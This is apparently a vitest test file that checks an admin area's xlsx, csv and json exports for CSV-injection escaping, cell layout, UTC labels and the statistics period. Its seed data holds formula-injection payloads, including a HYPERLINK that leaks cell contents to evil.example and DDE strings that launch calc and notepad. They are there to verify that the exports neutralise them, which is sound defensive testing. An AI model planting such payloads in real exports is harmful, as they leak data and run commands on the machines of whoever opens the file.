// Issue 25, items 10, 17 and 19 (export half): the administration area's files as a spreadsheet
// application reads them.
// - 10: member-typed text that starts with = + - @, a tab or a carriage return (or the full-width
//   ＝ ＋ － ＠) is neutralised with a leading quote in every xlsx cell exactly as in the csv cell
//   (one rule), in every export; json keeps what was entered.
// - 17: every text cell wraps at the top of its cell, each row is as tall as its longest wrapped
//   text (so nothing prints over the row below in LibreOffice), every header fits its column, and
//   every column of times says UTC, in the csv header too.
// - 19: the statistics file states the period asked: 'last 3 months' (a start day, no end day)
//   runs to the day of the export, not 'All time'.
// The files are parsed back with exceljs and csv-parse.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { adminActions, clubs } from '../../server/src/db/schema/index.js';
import { dbOf } from '../helpers/messages.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { periodRange } from '../../server/src/modules/admin/admin.rules.js';
import { bootstrapAdmin, clearAdminRateLimits, newApplication, type Application } from '../helpers/admin.js';
import type { ApiClient } from '../helpers/client.js';

// ---------------------------------------------------------------------------------------------
// The rule, written here on the test side (OWASP "CSV injection").

/** Every first character a spreadsheet reads as the start of a formula. */
const HOSTILE_PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const STARTS_A_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const neutralised = (s: string) => (STARTS_A_FORMULA.test(s) ? `'${s}` : s);

const LINE_HEIGHT = 15;
const ROW_HEIGHT_MAX = 409;
const DATE_FORMAT = 'yyyy-mm-dd hh:mm:ss';

type Format = 'xlsx' | 'csv' | 'json';
const FILE = 'file { downloadUrl filename expiresAt } userErrors { field code message }';
const MUTATIONS = {
  applications: `mutation Export($input: ExportClubApplicationsInput!) { exportClubApplications(input: $input) { ${FILE} } }`,
  audit: `mutation Export($input: ExportAdminActionsInput!) { exportAdminActions(input: $input) { ${FILE} } }`,
  statistics: `mutation Export($input: ExportClubApplicationStatisticsInput!) { exportClubApplicationStatistics(input: $input) { ${FILE} } }`,
} as const;
const FIELD = { applications: 'exportClubApplications', audit: 'exportAdminActions', statistics: 'exportClubApplicationStatistics' } as const;
type Kind = keyof typeof MUTATIONS;
const KINDS: Kind[] = ['applications', 'audit', 'statistics'];

let server: TestServer;
let admin: Awaited<ReturnType<typeof bootstrapAdmin>>;
const today = () => new Date().toISOString().slice(0, 10);

async function exportFile(client: ApiClient, kind: Kind, input: Record<string, unknown>): Promise<Buffer> {
  const answer = await client.gql(MUTATIONS[kind], { input });
  expect(answer.errors).toBeUndefined();
  const payload = answer.data[FIELD[kind]];
  expect(payload.userErrors).toEqual([]);
  const res = await fetch(server.url + payload.file.downloadUrl);
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function workbookOf(body: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

/** Each worksheet as lines of cell values (1-based columns flattened to 0-based; empty = null). */
function linesOf(sheet: ExcelJS.Worksheet): unknown[][] {
  const lines: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    const cells: unknown[] = [];
    for (let c = 1; c <= sheet.columnCount; c++) cells.push(row.getCell(c).value ?? null);
    lines.push(cells);
  });
  return lines;
}

/** The csv's records, sections included (an empty line between sections). */
const csvLines = (body: Buffer) => parse(body, { bom: true, relax_column_count: true, skip_empty_lines: false }) as string[][];

/** How the csv writes a cell: dates as ISO instants, none as empty. */
const csvText = (value: unknown) => (value == null ? '' : value instanceof Date ? value.toISOString() : String(value));

/** XML carries a lone carriage return as a line feed (XML 1.0 section 2.11), however it is written. */
const asXmlReadsIt = (s: string) => s.replace(/\r\n?/g, '\n');

/** The fewest lines a wrapped text takes in a column `width` characters wide (a character is at
 *  least a digit's width in the spreadsheet's font but the narrowest ones: so a lower bound). */
const fewestLines = (text: string, width: number) => text.split('\n').reduce((n, line) => n + Math.max(1, Math.ceil(line.length / (width * 1.25))), 0);

// ---------------------------------------------------------------------------------------------
// Hostile text in every member-typed column: one application per prefix, submitted in February
// 2026, rejected with a hostile reason, and a hostile audit entry about it.

const FEBRUARY = { from: '2026-02-01', to: '2026-02-28' };
const LONG = 'We train on Tuesdays and Thursdays at the leisure centre, run junior sessions on Saturday mornings and play in the county league. ';
let hostile: { app: Application; values: Record<string, string> }[] = [];

beforeAll(async () => {
  server = await startServer({ rateLimit: { windowMinutes: 15, failsPerEmailIp: 10, failsPerIpPerDay: 1000, perIp: 10_000 } });
  admin = await bootstrapAdmin(server);
  await clearAdminRateLimits(server);
  const db = dbOf(server);
  for (const [i, p] of HOSTILE_PREFIXES.entries()) {
    const app = await newApplication(server, { name: `Plain Club ${i}` });
    const values = {
      name: `${p}HYPERLINK("http://evil.example/?leak="&A1,"Club ${i}")`,
      contact_email: `${p}cmd${i}@evil.example`,
      contact_phone: `${p}2+3+${i}`,
      location: `${p}Evilton ${i}`,
      sport_types: `${p}SUM(1+${i})`,
      website_url: `${p}http://evil.example/${i}`,
      description: `${p}@SUM(1+1)*cmd|' /C calc'!A0 ${i} ${LONG.repeat(3)}`,
      admin_notes: `${p}cmd|" /C notepad"!A${i}`,
    };
    await db
      .update(clubs)
      .set({
        name: values.name,
        contactEmail: values.contact_email,
        contactPhone: values.contact_phone,
        city: values.location,
        category: values.sport_types,
        website: values.website_url,
        description: values.description,
        adminNotes: values.admin_notes,
        applicationStatus: 'rejected',
        createdAt: new Date(Date.UTC(2026, 1, 2 + i, 9, 30)),
        reviewedAt: new Date(Date.UTC(2026, 1, 3 + i, 10, 0)),
      })
      .where(eq(clubs.id, app.uuid));
    // An audit entry about it whose every text column is hostile (the administrator's name and
    // email are what a member typed at sign-up; the details what an administrator typed).
    await db.insert(adminActions).values({
      actionType: 'reject',
      targetType: 'club_application',
      targetId: app.uuid,
      targetName: values.name,
      details: `${p}Application rejected|' /C calc'!A0 ${i}\n${LONG}`,
      adminId: admin.id,
      adminName: `${p}Evil Admin ${i}`,
      adminEmail: `${p}evil${i}@admin.example`,
      ipAddress: '127.0.0.1',
      createdAt: new Date(Date.UTC(2026, 1, 3 + i, 10, 0)),
    });
    hostile.push({ app, values });
  }
});
afterAll(async () => {
  await server?.close();
});

const inputFor = (kind: Kind, format: Format) => ({ format: format.toUpperCase(), ...FEBRUARY, ...(kind === 'applications' ? { includeHistory: true, includeAdminNotes: true } : {}) });

// ---------------------------------------------------------------------------------------------

describe('item 10: no cell of any export starts a formula', () => {
  for (const kind of KINDS) {
    it(`${kind}: every xlsx cell is plain text or a value, never a formula, and starts the way the csv cell does`, async () => {
      await clearAdminRateLimits(server);
      const workbook = await workbookOf(await exportFile(admin.client, kind, inputFor(kind, 'xlsx')));
      const csv = csvLines(await exportFile(admin.client, kind, inputFor(kind, 'csv')));
      // The csv holds the sheets one after another (a name line before each when there are several).
      const sections = workbook.worksheets.length > 1;
      let at = 0;
      let strings = 0;
      for (const sheet of workbook.worksheets) {
        if (sections) {
          if (at > 0) expect(csv[at++]).toEqual(['']);
          expect(csv[at++]).toEqual([sheet.name]);
        }
        sheet.eachRow((row) => {
          row.eachCell((cell) => {
            expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
            if (typeof cell.value === 'string') {
              strings++;
              expect(cell.value, `${sheet.name}!${cell.address}`).not.toMatch(STARTS_A_FORMULA);
            }
          });
        });
        for (const line of linesOf(sheet)) {
          // One rule, one place: the xlsx cell is the csv cell (dates aside, which csv writes as ISO).
          const record = csv[at++]!;
          expect(line.map((v) => (v instanceof Date ? v.toISOString() : asXmlReadsIt(csvText(v)))).slice(0, record.length)).toEqual(record.map(asXmlReadsIt));
        }
      }
      expect(at).toBe(csv.length);
      expect(strings).toBeGreaterThan(10);
    });
  }

  it('applications: every member-typed column of every hostile application holds the quoted text (xlsx and csv), json what was entered', async () => {
    await clearAdminRateLimits(server);
    const sheet = (await workbookOf(await exportFile(admin.client, 'applications', inputFor('applications', 'xlsx')))).worksheets[0]!;
    const [headers, ...rows] = linesOf(sheet);
    const xlsxById = new Map(rows.map((r) => [r[0], r]));
    const csv = csvLines(await exportFile(admin.client, 'applications', inputFor('applications', 'csv')));
    const csvById = new Map(csv.slice(1).map((r) => [r[0], r]));
    const json = JSON.parse((await exportFile(admin.client, 'applications', inputFor('applications', 'json'))).toString('utf8')) as Record<string, unknown>[];
    const jsonById = new Map(json.map((r) => [r.id, r]));
    expect(hostile).toHaveLength(HOSTILE_PREFIXES.length);
    for (const { app, values } of hostile) {
      const x = xlsxById.get(app.uuid)!;
      const c = csvById.get(app.uuid)!;
      for (const [column, raw] of Object.entries(values)) {
        const index = (headers as string[]).indexOf(column);
        expect(index, column).toBeGreaterThanOrEqual(0);
        expect(x[index], `xlsx ${column} ${JSON.stringify(raw)}`).toBe(asXmlReadsIt(neutralised(raw)));
        expect(c[index], `csv ${column} ${JSON.stringify(raw)}`).toBe(neutralised(raw));
        expect(jsonById.get(app.uuid)![column], `json ${column}`).toEqual(column === 'sport_types' ? [raw] : raw);
      }
      expect(x[(headers as string[]).indexOf('application_status')]).toBe('rejected');
    }
  });

  it('audit log and statistics: the hostile names, details, reasons and locations are quoted', async () => {
    await clearAdminRateLimits(server);
    const audit = linesOf((await workbookOf(await exportFile(admin.client, 'audit', inputFor('audit', 'xlsx')))).worksheets[0]!);
    const texts = new Set(audit.flat().filter((v): v is string => typeof v === 'string'));
    for (const [i, p] of HOSTILE_PREFIXES.entries()) {
      const { values } = hostile[i]!;
      // The report lists the top 5 reasons: one day, one application, one reason.
      const day = `2026-02-${String(2 + i).padStart(2, '0')}`;
      await clearAdminRateLimits(server);
      const stats = await workbookOf(await exportFile(admin.client, 'statistics', { format: 'XLSX', from: day, to: day }));
      const reasons = new Set(linesOf(stats.getWorksheet('Top rejection reasons')!).map((r) => r[0]));
      const locations = new Set(linesOf(stats.getWorksheet('Applications by location')!).map((r) => r[0]));
      expect(texts.has(asXmlReadsIt(neutralised(values.name))), `target_name ${JSON.stringify(p)}`).toBe(true);
      expect(texts.has(asXmlReadsIt(neutralised(`${p}Evil Admin ${i}`))), `admin_name ${JSON.stringify(p)}`).toBe(true);
      expect(texts.has(asXmlReadsIt(neutralised(`${p}evil${i}@admin.example`))), `admin_email ${JSON.stringify(p)}`).toBe(true);
      expect(texts.has(asXmlReadsIt(neutralised(`${p}Application rejected|' /C calc'!A0 ${i}\n${LONG}`))), `details ${JSON.stringify(p)}`).toBe(true);
      expect(reasons.has(asXmlReadsIt(neutralised(values.admin_notes))), `reason ${JSON.stringify(p)}`).toBe(true);
      expect(locations.has(asXmlReadsIt(neutralised(values.location))), `location ${JSON.stringify(p)}`).toBe(true);
    }
  });
});

describe('item 17: every export reads in LibreOffice and Excel alike', () => {
  for (const kind of KINDS) {
    it(`${kind}: text wraps at the top of its cell, rows are as tall as their text, headers fit, times say UTC`, async () => {
      await clearAdminRateLimits(server);
      const workbook = await workbookOf(await exportFile(admin.client, kind, inputFor(kind, 'xlsx')));
      let tall = 0;
      for (const sheet of workbook.worksheets) {
        const headerRow = sheet.getRow(1);
        const headers: string[] = [];
        for (let c = 1; c <= sheet.columnCount; c++) {
          const header = String(headerRow.getCell(c).value);
          headers.push(header);
          const width = sheet.getColumn(c).width ?? 0;
          // A bold header is about a tenth wider than its characters, plus the cell's padding.
          expect(width, `${sheet.name} ${header}`).toBeGreaterThanOrEqual(Math.ceil(header.length * 1.1) + 2);
          expect(headerRow.getCell(c).font?.bold, `${sheet.name} ${header}`).toBe(true);
        }
        sheet.eachRow((row, n) => {
          if (n === 1) return;
          let lines = 1;
          row.eachCell((cell, c) => {
            const where = `${sheet.name}!${cell.address} (${headers[c - 1]})`;
            if (cell.value instanceof Date) {
              expect(cell.numFmt, where).toBe(DATE_FORMAT);
              expect(headers[c - 1], where).toMatch(/\(UTC\)$/);
            } else if (typeof cell.value === 'string') {
              expect(cell.alignment, where).toMatchObject({ wrapText: true, vertical: 'top' });
              lines = Math.max(lines, fewestLines(cell.value, sheet.getColumn(c).width!));
              // Text holding a time (the history's lines) is in a column that says UTC.
              if (/\d{4}-\d{2}-\d{2} \d{2}:\d{2}/.test(cell.value)) expect(headers[c - 1], where).toMatch(/\(UTC\)$/);
            }
          });
          if (lines > 1) {
            tall++;
            expect(row.height, `${sheet.name} row ${n}: ${lines} lines at least`).toBeGreaterThanOrEqual(Math.min(ROW_HEIGHT_MAX, lines * LINE_HEIGHT));
            expect(row.height, `${sheet.name} row ${n}`).toBeLessThanOrEqual(ROW_HEIGHT_MAX);
          }
        });
      }
      // The seeded descriptions, notes, history and details are long: each of their rows is tall.
      expect(tall).toBeGreaterThanOrEqual(kind === 'statistics' ? 0 : HOSTILE_PREFIXES.length);
    });
  }

  it('the date columns say UTC in xlsx and csv alike; json keeps its ISO instants (which end in Z)', async () => {
    await clearAdminRateLimits(server);
    const headersOf = async (kind: Kind) => ({
      xlsx: linesOf((await workbookOf(await exportFile(admin.client, kind, inputFor(kind, 'xlsx')))).worksheets[0]!)[0],
      csv: csvLines(await exportFile(admin.client, kind, inputFor(kind, 'csv')))[0],
    });
    const applications = await headersOf('applications');
    expect(applications.xlsx).toEqual(applications.csv);
    expect(applications.csv).toEqual(expect.arrayContaining(['created_at (UTC)', 'reviewed_at (UTC)', 'history (UTC)']));
    expect(applications.csv).not.toContain('created_at');
    const audit = await headersOf('audit');
    expect(audit.xlsx).toEqual(audit.csv);
    expect(audit.csv).toContain('created_at (UTC)');
    expect(audit.csv).not.toContain('created_at');

    const json = JSON.parse((await exportFile(admin.client, 'applications', inputFor('applications', 'json'))).toString('utf8')) as Record<string, unknown>[];
    expect(json[0]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);

    const stats = await workbookOf(await exportFile(admin.client, 'statistics', inputFor('statistics', 'xlsx')));
    const summary = linesOf(stats.getWorksheet('Summary')!);
    expect(summary.slice(1, 3)).toEqual([
      ['From (UTC)', FEBRUARY.from],
      ['To (UTC)', FEBRUARY.to],
    ]);
    expect(linesOf(stats.getWorksheet('Applications by month')!)[0]![0]).toBe('Month (UTC)');
  });
});

describe("item 19: the statistics file states the period asked, not 'All time'", () => {
  it("the last 3 months (a start day and no end day) run from that day to the day of the export, in every format", async () => {
    await clearAdminRateLimits(server);
    // What the Reports tab sends for 'Last 3 months' (administration.md: only date_from is set).
    const { from, to } = periodRange('last-3-months', new Date(), true);
    expect(to).toBeNull();
    const input = (format: Format) => ({ format: format.toUpperCase(), from });

    const stats = await workbookOf(await exportFile(admin.client, 'statistics', input('xlsx')));
    const summary = linesOf(stats.getWorksheet('Summary')!);
    expect(summary.slice(1, 3)).toEqual([
      ['From (UTC)', from],
      ['To (UTC)', today()],
    ]);
    expect(summary.flat()).not.toContain('All time');

    const csv = csvLines(await exportFile(admin.client, 'statistics', input('csv')));
    expect(csv.slice(0, 4)).toEqual([
      ['Summary'],
      ['Metric', 'Value'],
      ['From (UTC)', from],
      ['To (UTC)', today()],
    ]);
    expect(csv.flat()).not.toContain('All time');

    const json = JSON.parse((await exportFile(admin.client, 'statistics', input('json'))).toString('utf8')) as Record<string, unknown>;
    expect(json).toMatchObject({ date_from: from, date_to: today() });
  });

  it('a period with no start says it counts from the first application', async () => {
    await clearAdminRateLimits(server);
    const summary = linesOf((await workbookOf(await exportFile(admin.client, 'statistics', { format: 'XLSX', to: '2026-02-28' }))).getWorksheet('Summary')!);
    expect(summary.slice(1, 3)).toEqual([
      ['From (UTC)', 'The first application'],
      ['To (UTC)', '2026-02-28'],
    ]);
  });
});
